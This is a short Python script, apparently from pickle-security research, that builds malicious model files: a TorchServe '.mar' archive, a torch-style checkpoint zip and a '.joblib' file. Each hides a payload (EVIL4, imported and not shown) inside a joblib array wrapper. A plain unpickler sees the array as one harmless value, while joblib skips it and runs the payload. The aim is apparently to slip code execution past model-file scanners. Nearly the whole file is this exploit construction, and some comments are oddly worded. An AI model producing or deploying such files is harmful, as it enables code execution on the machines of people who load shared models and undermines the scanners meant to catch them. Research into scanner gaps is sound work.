# A pickle beside torch's marks that joblib loads: a handler of TorchServe's may well do so. For a plain
# unpickler the array is one long value, with the payload in it; joblib steps over the array to the payload.
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", ".."))
from joblib_asm import *
from zip_parts import Member, archive, write

BYTES = 40
wrapped = proto(4) + wrapper((BYTES,), dtype("u1")) + (b"B" + u32(BYTES - 5 + len(EVIL4))).ljust(BYTES, b"A") + EVIL4
dump = wrapped + STOP

write("served.mar", archive([Member("MAR-INF/MANIFEST.json", b"{}\n"), Member("model.pkl", dump)]))
write("checkpoint.zip", archive([Member("a/version", b"3\n"), Member("a/byteorder", b"little"),
                                 Member("a/more/model.pkl", dump)]))
# The second pickle is torch's number, so the first might be a computed one of an old torch file.
save("numbered.joblib", wrapped + POP + EMPTY_LIST + STOP + proto(2) + b"M\xe9\x03" + STOP)
